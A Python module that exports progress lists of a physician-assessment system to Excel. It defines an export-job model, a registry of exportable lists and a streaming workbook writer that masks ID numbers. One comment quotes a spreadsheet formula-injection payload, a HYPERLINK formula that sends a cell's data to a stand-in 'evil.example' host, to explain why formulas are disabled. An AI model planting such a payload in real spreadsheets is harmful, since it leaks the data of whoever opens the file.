"""Excel exports of the progress lists (报名进度, 测评进度, 补考管理, and any list another module
registers): what an export is (``ExportJob``: who asked, for which list, with which filters,
how far it got), the registry of exportable lists (``ExportKind``, ``register``) and the one
workbook writer they share.

The writer streams (xlsxwriter ``constant_memory``: one row in memory at a time) and the rows
are read in chunks (``yield_per``), so a province-wide export of 330,000 rows runs in a worker
without holding them all. Every workbook has a first line saying the scope, the filters and the
time, a frozen header row with an auto-filter, column widths fitted to the content, dates as
dates, masked ID numbers, a Chinese sheet name, and user-entered text written as text (never a
formula, a link or a number)."""
import datetime
import time
from dataclasses import dataclass
from typing import Callable

import xlsxwriter
from flask_appbuilder import Model
from flask_babel import gettext as _
from flask_babel import lazy_gettext as _l
from sqlalchemy import JSON, Column, DateTime, ForeignKey, Index, Integer, String, Text, select
from sqlalchemy.orm import relationship

from models.base import ChoiceSet, now
from security import idcard

# --- the record of an export ---------------------------------------------------------------

# A background job's status, as RQ reports it (not a state of the domain: no event, no audit).
EXPORT_STATUS = ChoiceSet(
    ("queued", _l("Queued")),
    ("running", _l("In progress")),
    ("done", _l("Finished")),
    ("failed", _l("Job failed")),
)
FINISHED = (EXPORT_STATUS.DONE, EXPORT_STATUS.FAILED)
# The cycle's result of an enrollment (合格 / 不合格), as lists and exports show it.
RESULT = ChoiceSet(("pass", _l("Passed")), ("fail", _l("Failed")))


class ExportJob(Model):
    """One export someone asked for: shown under 导出记录 from the moment it is queued; its file
    is for that user only and is deleted when it expires."""

    __tablename__ = "export_job"
    id = Column(Integer, primary_key=True)
    kind = Column(String(32), nullable=False)
    title = Column(String(64), nullable=False)
    # The list's ``_flt_…`` arguments as the user had them, and the same in words.
    filters = Column(JSON, nullable=False, default=dict)
    filters_text = Column(Text)
    locale = Column(String(8))
    requested_by_id = Column(Integer, ForeignKey("ab_user.id"), nullable=False)
    requested_by = relationship("AppUser")
    status = Column(String(16), nullable=False, default=EXPORT_STATUS.QUEUED)
    rows_done = Column(Integer, nullable=False, default=0)
    rows_total = Column(Integer)
    reason = Column(Text)
    file_id = Column(Integer, ForeignKey("stored_file.id"))
    file = relationship("StoredFile")
    rq_job_id = Column(String(64))
    created_at = Column(DateTime, default=now, nullable=False)
    started_at = Column(DateTime)
    finished_at = Column(DateTime)
    expires_at = Column(DateTime)

    __table_args__ = (Index("ix_export_job_requester", "requested_by_id", "id"),)

    @property
    def status_label(self):
        return EXPORT_STATUS.label(self.status)

    @property
    def expired(self):
        return self.expires_at is not None and self.expires_at <= now()


# --- columns and the registry of exportable lists -----------------------------------------

TEXT, NUMBER, DATE, DATETIME, ID_NUMBER = "text", "number", "date", "datetime", "id_number"


@dataclass(frozen=True)
class Column_:
    """A column of an export: its header (translated when the export runs) and its kind."""

    header: object
    kind: str = TEXT


@dataclass(frozen=True)
class ExportKind:
    """An exportable list.

    ``ids(actor, args)`` is the list's scoped, filtered select of ids (the same function the
    list page uses, so an export holds what the list showed); ``rows(session, ids, labels)``
    yields one list of values per record, in ``columns`` order, reading in chunks; ``labels``
    is a ``Labels`` that translates choice values once per export."""

    name: str
    title: object
    columns: tuple
    ids: Callable
    rows: Callable
    sheet: object = None  # defaults to the title


EXPORTS = {}


def register(kind):
    """Make a list exportable: ``views.exports.start_export(kind.name, args)`` then queues it.
    (监考管理 and 历史考核结果 register theirs the same way.)"""
    EXPORTS[kind.name] = kind
    return kind


class Labels:
    """Choice labels translated once per export, not once per cell."""

    def __init__(self):
        self._cache = {}

    def __call__(self, choice_set, value):
        table = self._cache.get(id(choice_set))
        if table is None:
            table = self._cache[id(choice_set)] = {
                v: str(label) for v, label in choice_set.options()}
        return table.get(value, "" if value is None else value)


# --- the workbook ----------------------------------------------------------------------------

# Every spreadsheet we write: text is written as text. A physician named
# =HYPERLINK("http://evil.example/?d="&C3,"详情") must stay a name, not become a live formula
# (nor a link, nor a number) in the spreadsheet of whoever opens the file.
SAFE_WRITING = {"strings_to_formulas": False, "strings_to_urls": False,
                "strings_to_numbers": False}
HEADER_ROW = 1  # row 0 is the line saying scope, filters and time
MAX_WIDTH = 60
_SHEET_FORBIDDEN = str.maketrans({c: "_" for c in "[]:*?/\\"})


def sheet_name(title):
    return str(title).translate(_SHEET_FORBIDDEN)[:31] or "Sheet1"


WIDTH_SAMPLE = 1000  # widths are fitted to the header and the first rows


def _width(value):
    """Display width, about: a CJK character (three bytes in UTF-8) takes two columns."""
    text = value if isinstance(value, str) else str(value)
    return len(text) + (len(text.encode("utf-8")) - len(text)) // 2


PROGRESS_SECONDS = 2  # and, on a slow machine, at least every 2 s (checked every 500 rows)


def progress_steps(total):
    """After how many rows the progress is reported: at most every 5 % of the rows."""
    return max(1, total // 20) if total else 1


def write_workbook(path, kind, rows, heading, total=0, progress=None):
    """Write ``rows`` (lists of values in ``kind.columns`` order) to ``path``; returns the number
    of rows. ``progress(done)`` is called at least every 5 % of ``total`` rows and at the end."""
    columns = kind.columns
    book = xlsxwriter.Workbook(str(path), {"constant_memory": True, **SAFE_WRITING})
    try:
        sheet = book.add_worksheet(sheet_name(kind.sheet or kind.title))
        header = book.add_format({"bold": True, "bg_color": "#DDEBF7", "border": 1})
        formats = {DATE: book.add_format({"num_format": "yyyy-mm-dd"}),
                   DATETIME: book.add_format({"num_format": "yyyy-mm-dd hh:mm"})}
        sheet.write_string(0, 0, heading, book.add_format({"italic": True}))
        headers = [str(column.header) for column in columns]
        widths = [_width(text) + 2 for text in headers]
        sheet.write_row(HEADER_ROW, 0, headers, header)
        writers = [_cell_writer(sheet, column.kind, formats) for column in columns]
        step = progress_steps(total)
        count, reported = 0, time.monotonic()
        for count, row in enumerate(rows, start=1):
            line = HEADER_ROW + count
            if count <= WIDTH_SAMPLE:
                for index, (write, value) in enumerate(zip(writers, row)):
                    shown = write(line, index, value)
                    if shown > widths[index]:
                        widths[index] = shown
            else:
                for index, (write, value) in enumerate(zip(writers, row)):
                    write(line, index, value)
            if progress is not None and (count % step == 0 or (
                    count % 500 == 0 and time.monotonic() - reported >= PROGRESS_SECONDS)):
                progress(count)
                reported = time.monotonic()
        for index, width in enumerate(widths):
            sheet.set_column(index, index, min(width + 1, MAX_WIDTH))
        sheet.freeze_panes(HEADER_ROW + 1, 0)
        sheet.autofilter(HEADER_ROW, 0, HEADER_ROW + count, len(columns) - 1)
    finally:
        book.close()
    if progress is not None:
        progress(count)
    return count


def _cell_writer(sheet, kind, formats):
    """A function (row, col, value) -> the displayed width, for one column kind."""
    if kind in (DATE, DATETIME):
        fmt = formats[kind]
        shown = 11 if kind == DATE else 17

        def write(row, col, value):
            if value is None or value == "":
                return 0
            if not isinstance(value, datetime.date):
                sheet.write_string(row, col, str(value))
                return _width(value)
            if kind == DATETIME and not isinstance(value, datetime.datetime):
                value = datetime.datetime.combine(value, datetime.time())
            sheet.write_datetime(row, col, value, fmt)
            return shown
        return write
    if kind == NUMBER:
        def write(row, col, value):
            if value is None or value == "":
                return 0
            sheet.write_number(row, col, value)
            return len(str(value))
        return write
    if kind == ID_NUMBER:
        def write(row, col, value):
            masked = idcard.mask(value)
            sheet.write_string(row, col, masked)
            return len(masked)
        return write

    def write(row, col, value):
        if value is None:
            return 0
        text = value if isinstance(value, str) else str(value)
        sheet.write_string(row, col, text)
        return _width(text)
    return write


def heading_line(kind, scope_name, filters_text, at=None):
    """The first line of the sheet: what this is, whose, with which filters, when."""
    at = at or now()
    return _("%(title)s · Scope: %(scope)s · Filters: %(filters)s · Exported at %(time)s",
             title=str(kind.title), scope=scope_name or "—", filters=filters_text or _("none"),
             time=at.strftime("%Y-%m-%d %H:%M"))


# --- the lists -------------------------------------------------------------------------------


def _enrollment_progress():
    from models import Department, Enrollment, Institution, Physician
    from models.enrollment import ENROLLMENT_STATE, PROCEDURE
    from models.physician import PHYSICIAN_LEVEL, PRACTICE_CATEGORY

    result = RESULT

    def ids(actor, args):
        from models.progress import enrollment_ids

        return enrollment_ids(actor, args)

    def rows(session, id_select, labels, chunk=2000):
        statement = (
            select(Physician.name, Physician.id_number, Institution.name, Department.name,
                   Physician.practice_category, Physician.level, Enrollment.procedure,
                   Enrollment.state, Enrollment.submitted_at, Enrollment.result)
            .join(Physician, Physician.id == Enrollment.physician_id)
            .join(Institution, Institution.id == Enrollment.institution_id)
            .outerjoin(Department, Department.id == Physician.department_id)
            .where(Enrollment.id.in_(id_select))
            .order_by(Enrollment.institution_id, Enrollment.id)
            .execution_options(yield_per=chunk))
        for index, (name, number, institution, department, category, level, procedure,
                    state, submitted, outcome) in enumerate(session.execute(statement), 1):
            yield [index, name, number, institution, department,
                   labels(PRACTICE_CATEGORY, category), labels(PHYSICIAN_LEVEL, level),
                   labels(PROCEDURE, procedure), labels(ENROLLMENT_STATE, state), submitted,
                   labels(result, outcome)]

    return ExportKind(
        name="enrollment_progress", title=_l("Enrollment progress"),
        columns=(Column_(_l("No."), NUMBER), Column_(_l("Full name")),
                 Column_(_l("ID number"), ID_NUMBER), Column_(_l("Institution")),
                 Column_(_l("Department")), Column_(_l("Practice category")),
                 Column_(_l("Physician level")), Column_(_l("Procedure")),
                 Column_(_l("Enrollment state")), Column_(_l("Submitted at"), DATETIME),
                 Column_(_l("Outcome"))),
        ids=ids, rows=rows)


def list_ids(model, actor, args, search_columns, search_filters, base_filters=()):
    """The scoped ids of a console list's model under its ``_flt_…`` arguments and its
    ``base_filters`` ([column, FilterClass, value]): what the list page shows ``actor``."""
    from flask_appbuilder.models.sqla.interface import SQLAInterface

    from app.extensions import db
    from models.progress import filters_from_args
    from security import scope

    datamodel = SQLAInterface(model, db.session)
    filters = filters_from_args(datamodel, search_columns, search_filters, args)
    for column, filter_class, value in base_filters:
        filters.add_filter(column, filter_class, value)
    return filters.apply_all(scope.restrict(db.session.query(model.id), model, actor))


def _paper_results():
    from models import Enrollment, Institution, Paper, PaperResult, Physician
    from models.enrollment import PROCEDURE

    status = ChoiceSet(("exempted", _l("Exempted")), ("passed", _l("Passed")),
                       ("failed", _l("Not passed")), ("open", _l("Not yet passed")))

    def ids(actor, args):
        from views.exam_admin import PaperResultView as view

        return list_ids(PaperResult, actor, args, view.search_columns, view.search_filters)

    def rows(session, id_select, labels, chunk=2000):
        statement = (
            select(Physician.name, Physician.id_number, Institution.name, Paper.name,
                   Enrollment.procedure, PaperResult.attempts_used, Paper.max_attempts,
                   PaperResult.best_score, PaperResult.passed, PaperResult.exempted)
            .join(Enrollment, Enrollment.id == PaperResult.enrollment_id)
            .join(Physician, Physician.id == Enrollment.physician_id)
            .join(Institution, Institution.id == Enrollment.institution_id)
            .join(Paper, Paper.id == PaperResult.paper_id)
            .where(PaperResult.id.in_(id_select))
            .order_by(Enrollment.institution_id, PaperResult.id)
            .execution_options(yield_per=chunk))
        for index, (name, number, institution, paper, procedure, used, allowed, best, passed,
                    exempted) in enumerate(session.execute(statement), 1):
            state = ("exempted" if exempted else "passed" if passed
                     else "failed" if used >= allowed else "open")
            yield [index, name, number, institution, paper, labels(PROCEDURE, procedure), used,
                   best, labels(status, state)]

    return ExportKind(
        name="paper_results", title=_l("Assessment progress"),
        columns=(Column_(_l("No."), NUMBER), Column_(_l("Full name")),
                 Column_(_l("ID number"), ID_NUMBER), Column_(_l("Institution")),
                 Column_(_l("Paper")), Column_(_l("Assessment procedure")),
                 Column_(_l("Attempts used"), NUMBER), Column_(_l("Best score"), NUMBER),
                 Column_(_l("Assessment state"))),
        ids=ids, rows=rows)


def _makeup():
    from models import Enrollment, Institution, Physician
    from models.enrollment import ENROLLMENT_STATE, PROCEDURE

    def ids(actor, args):
        from views.exam_admin import MakeupView as view

        return list_ids(Enrollment, actor, args, view.search_columns, view.search_filters,
                        view.base_filters)

    def rows(session, id_select, labels, chunk=2000):
        statement = (
            select(Physician.name, Physician.id_number, Institution.name, Enrollment.procedure,
                   Enrollment.state, Enrollment.updated_at)
            .join(Physician, Physician.id == Enrollment.physician_id)
            .join(Institution, Institution.id == Enrollment.institution_id)
            .where(Enrollment.id.in_(id_select))
            .order_by(Enrollment.institution_id, Enrollment.id)
            .execution_options(yield_per=chunk))
        for index, (name, number, institution, procedure, state, updated) in enumerate(
                session.execute(statement), 1):
            yield [index, name, number, institution, labels(PROCEDURE, procedure),
                   labels(ENROLLMENT_STATE, state), updated]

    return ExportKind(
        name="makeup", title=_l("Make-up management"),
        columns=(Column_(_l("No."), NUMBER), Column_(_l("Full name")),
                 Column_(_l("ID number"), ID_NUMBER), Column_(_l("Institution")),
                 Column_(_l("Assessment procedure")), Column_(_l("Enrollment state")),
                 Column_(_l("Updated at"), DATETIME)),
        ids=ids, rows=rows)


ENROLLMENT_PROGRESS = register(_enrollment_progress())
PAPER_RESULTS = register(_paper_results())
MAKEUP = register(_makeup())
